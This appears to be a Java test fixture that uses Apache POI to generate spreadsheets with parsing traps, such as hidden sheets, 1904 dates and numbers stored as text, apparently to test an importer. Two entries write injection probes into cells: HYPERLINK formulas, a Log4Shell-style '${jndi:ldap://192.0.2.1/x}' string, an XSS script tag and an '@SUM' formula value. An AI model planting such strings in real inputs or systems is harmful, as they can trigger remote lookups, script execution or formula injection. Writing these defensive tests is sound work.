package portcullis.app;

import java.io.IOException;
import java.io.OutputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Locale;
import java.util.function.Consumer;
import org.apache.poi.hssf.usermodel.HSSFWorkbook;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.ss.usermodel.SheetVisibility;
import org.apache.poi.ss.usermodel.Workbook;
import org.apache.poi.ss.util.CellRangeAddress;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;

/** Workbooks with one trap each, made with the office library. */
enum MessyWorkbook {
    TWO_ROW_HEADER(book -> {
        Sheet sheet = book.createSheet("Orders");
        row(sheet, 0, "Purchase orders, first quarter");
        row(sheet, 1, "PO number", "Supplier", "", "End user", "", "Item");
        row(sheet, 2, "", "Name", "Country", "Name", "Country", "");
        sheet.addMergedRegion(new CellRangeAddress(1, 1, 1, 2));
        sheet.addMergedRegion(new CellRangeAddress(1, 1, 3, 4));
        row(sheet, 3, "4500001", "Acme Ltd", "SG", "Example University", "DE", "Server");
    }),
    HIDDEN_ROWS_AND_SHEETS(book -> {
        Sheet secret = book.createSheet("Secret");
        row(secret, 0, "PO number", "Supplier", "Country");
        row(secret, 1, "9", "Hidden Ltd", "SG");
        orders(book.createSheet("Orders")).getRow(2).setZeroHeight(true);
        book.setActiveSheet(1);
        book.setSheetVisibility(0, SheetVisibility.VERY_HIDDEN);
    }),
    DAYS_FROM_1904(book -> {
        if (book instanceof XSSFWorkbook xlsx) {
            xlsx.getCTWorkbook().addNewWorkbookPr().setDate1904(true);
        }
        Sheet sheet = book.createSheet("Orders");
        row(sheet, 0, "PO number", "Supplier", "Order date");
        row(sheet, 1, "4500001", "Acme Ltd", "");
        var style = book.createCellStyle();
        style.setDataFormat((short) 14);
        var cell = sheet.getRow(1).createCell(2);
        cell.setCellStyle(style);
        cell.setCellValue(44_592.0);
    }),
    FORMULAS(book -> {
        Sheet sheet = orders(book.createSheet("Orders"));
        sheet.getRow(1).getCell(3).setCellFormula("2+2");
        sheet.getRow(2).getCell(1).setCellFormula("HYPERLINK(\"http://192.0.2.1/\",\"Acme\")");
        book.getCreationHelper()
                .createFormulaEvaluator()
                .evaluateFormulaCell(sheet.getRow(1).getCell(3));
    }),
    NUMBERS_AS_TEXT_AND_REVERSE(book -> {
        Sheet sheet = orders(book.createSheet("Orders"));
        sheet.getRow(1).getCell(0).setCellValue(450000123456.0);
        sheet.getRow(1).getCell(3).setCellValue("'8");
        sheet.getRow(2).getCell(3).setCellValue("1 234,5");
        row(sheet, 3, "0004500003", "Acme Ltd", "SG", "+7");
    }),
    SEVERAL_SHEETS(book -> {
        row(book.createSheet("Cover"), 0, "Orders of 2026", "confidential");
        orders(book.createSheet("Orders"));
        row(book.createSheet("Notes"), 0, "nothing");
    }),
    OLD_BINARY(book -> {
        Sheet sheet = orders(book.createSheet("Bestellungen"));
        row(sheet, 0, "Bestellnummer", "Lieferant", "Land", "Menge");
        sheet.getRow(2).setZeroHeight(true);
    }),
    FORMULAS_IN_CELLS_AS_TEXT(book -> {
        Sheet sheet = orders(book.createSheet("Orders"));
        sheet.getRow(1).getCell(1).setCellValue("=HYPERLINK(\"http://192.0.2.1\")");
        sheet.getRow(2).getCell(1).setCellValue("@SUM(A1) ${jndi:ldap://192.0.2.1/x} <script>alert(1)</script>");
    });

    @SuppressWarnings("ImmutableEnumChecker") // the lambdas hold nothing
    private final Consumer<Workbook> content;

    MessyWorkbook(Consumer<Workbook> content) {
        this.content = content;
    }

    String fileName() {
        return name().toLowerCase(Locale.ROOT).replace('_', '-') + (this == OLD_BINARY ? ".xls" : ".xlsx");
    }

    Path write(Path folder) throws IOException {
        Path file = folder.resolve(fileName());
        try (Workbook book = this == OLD_BINARY ? new HSSFWorkbook() : new XSSFWorkbook();
                OutputStream out = Files.newOutputStream(file)) {
            content.accept(book);
            book.write(out);
        }
        return file;
    }

    private static Sheet orders(Sheet sheet) {
        row(sheet, 0, "PO number", "Supplier", "Country", "Qty");
        row(sheet, 1, "4500001", "Acme Ltd", "SG", "8");
        row(sheet, 2, "4500002", "Beta Ltd", "DE", "2");
        return sheet;
    }

    private static void row(Sheet sheet, int number, String... cells) {
        var row = sheet.createRow(number);
        for (int i = 0; i < cells.length; i++) {
            if (!cells[i].isEmpty()) {
                row.createCell(i).setCellValue(cells[i]);
            }
        }
    }
}
